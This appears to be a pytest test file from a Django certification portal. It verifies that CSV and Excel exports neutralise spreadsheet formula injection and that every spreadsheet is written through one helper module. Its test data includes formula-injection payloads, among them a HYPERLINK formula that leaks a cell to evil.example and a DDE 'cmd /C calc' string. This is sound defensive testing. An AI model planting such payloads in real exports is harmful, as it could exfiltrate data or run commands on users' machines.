"""No export runs a formula: every CSV cell and every Excel cell made from a company, product, file or
person name is neutralised (OWASP CSV injection), in every export the portal writes.

The exports are the consultant's dashboard as CSV and as Excel, and manifest.csv in the ZIP of an
application's evidence. A new export cannot skip the neutralisation: the last test keeps every CSV
and workbook writer of the code in certportal/lib/spreadsheets.py.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from applications import services
from applications.models import EvidenceArchive
from applications.tasks.evidence import evidence_archive_build
from certportal.lib.spreadsheets import csv_cell, formula_like
from tests.applications.evidence_samples import pdf_bytes, upload
from tests.conftest import client_for
from tests.factories import ApplicationFactory, EnterpriseFactory, ProductFactory, complete_profile
from tests.http import streamed_body

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",
]
# File names keep what follows their last slash: these have none.
FILE_NAMES = ['=HYPERLINK("evil.example","点此查看")', "+1+cmd|' calc'!A0", "  =1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def live(cell: str) -> bool:
    """What a spreadsheet could run as a formula (checked here independently of the helper)."""
    return cell.startswith(TRIGGERS) or cell.lstrip().startswith(TRIGGERS)


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def assert_neutralised(rows: list[list[str]], names: list[str]) -> None:
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if live(cell)]
    for name in names:
        assert any(f"'{name}" in cell for cell in cells), name


def hostile_applications(consultant) -> list[Any]:
    applications = []
    for index, name in enumerate(HOSTILE):
        enterprise = complete_profile(EnterpriseFactory(name=name), seed=3000 + index)
        applications.append(ApplicationFactory(enterprise=enterprise, consultant=consultant))
    return applications


def test_the_dashboards_csv_export_neutralises_every_cell(consultant) -> None:
    hostile_applications(consultant)
    response = client_for(consultant).get(reverse("applications:dashboard_export", args=["csv"]))
    rows = csv_rows(streamed_body(response).decode("utf-8"))
    assert len(rows) == 1 + len(HOSTILE)
    assert_neutralised(rows, HOSTILE)
    assert sorted(row[1] for row in rows[1:]) == sorted(f"'{name}" for name in HOSTILE)


def test_the_dashboards_excel_export_writes_every_name_as_text(consultant) -> None:
    hostile_applications(consultant)
    response = client_for(consultant).get(reverse("applications:dashboard_export", args=["xlsx"]))
    with zipfile.ZipFile(io.BytesIO(response.content)) as workbook:
        assert b"<f>" not in workbook.read("xl/worksheets/sheet1.xml"), "no formula anywhere"
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = {cell.value: cell for cell in cells if cell.row > 1 and cell.column == 2}
    assert sorted(map(str, names)) == sorted(HOSTILE), "each name as typed"
    for cell in names.values():
        assert (cell.data_type, cell.number_format, cell.quotePrefix) == ("s", "@", True), cell.value
    counts = [cell for cell in cells if cell.row > 1 and cell.column == 5]
    assert {cell.data_type for cell in counts} == {"n"}, "numbers stay numbers"


def test_the_evidence_manifest_neutralises_every_name(
    evidence_application, enterprise_user, consultant, private_media
) -> None:
    enterprise_user.full_name = HOSTILE[2]
    enterprise_user.save(update_fields=["full_name"])
    consultant.full_name = HOSTILE[3]
    consultant.save(update_fields=["full_name"])
    product = ProductFactory(enterprise=evidence_application.enterprise, name=HOSTILE[4], model="")
    requirement = evidence_application.evidence_requirements.get(item__code="2")
    for name in FILE_NAMES:
        evidence = services.evidence_upload(
            requirement=requirement, actor=enterprise_user, upload=upload(f"{name}.pdf", pdf_bytes())
        )
        evidence.products.set([product])
        services.evidence_file_accept(evidence=evidence, actor=consultant)
    archive = services.evidence_archive_request(application=evidence_application, actor=consultant)
    evidence_archive_build(archive.pk)
    archive.refresh_from_db()
    assert archive.status == EvidenceArchive.Status.READY
    with zipfile.ZipFile(private_media / archive.file.name) as bundle:
        rows = csv_rows(bundle.read("manifest.csv").decode("utf-8"))
    assert len(rows) == 4
    assert_neutralised(rows, [f"{name}.pdf" for name in FILE_NAMES] + HOSTILE[2:5])
    assert {row[3] for row in rows[1:]} == {f"'{name}.pdf" for name in FILE_NAMES}
    assert {row[6] for row in rows[1:]} == {f"'{HOSTILE[4]}"}
    assert {(row[9], row[10]) for row in rows[1:]} == {(f"'{HOSTILE[2]}", f"'{HOSTILE[3]}")}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_cell_that_could_run_gets_a_leading_apostrophe(name: str) -> None:
    assert csv_cell(name) == f"'{name}"
    assert formula_like(name)


@pytest.mark.parametrize("value", ["李建国", "SA-2026-00001", "1-1", "a=b", "", "'=already quoted"])
def test_ordinary_text_and_numbers_are_left_as_they_are(value: str) -> None:
    assert csv_cell(value) == value
    assert csv_cell(-5) == -5
    assert csv_cell(None) == ""


# Writing CSV or a workbook anywhere but the helper: csv.writer / DictWriter, openpyxl's Workbook,
# other spreadsheet writers.
WRITERS = re.compile(r"\bcsv\.(writer|DictWriter)\b|\bWorkbook\(|\bxlsxwriter\b|\bpyexcel\b|\bto_excel\(|\bto_csv\(")
HELPER = "certportal/lib/spreadsheets.py"


def test_every_csv_and_workbook_is_written_through_the_one_helper() -> None:
    root = Path(settings.BASE_DIR)
    listing = ["git", "ls-files", "--cached", "--others", "--exclude-standard", "*.py"]
    tracked = subprocess.run(listing, cwd=root, capture_output=True, text=True, check=True)
    sources = [name for name in tracked.stdout.split() if not name.startswith("tests/")]
    assert HELPER in sources
    writers = [name for name in sources if name != HELPER and WRITERS.search((root / name).read_text())]
    assert writers == [], "write spreadsheets with certportal.lib.spreadsheets (csv_writer, xlsx_content)"
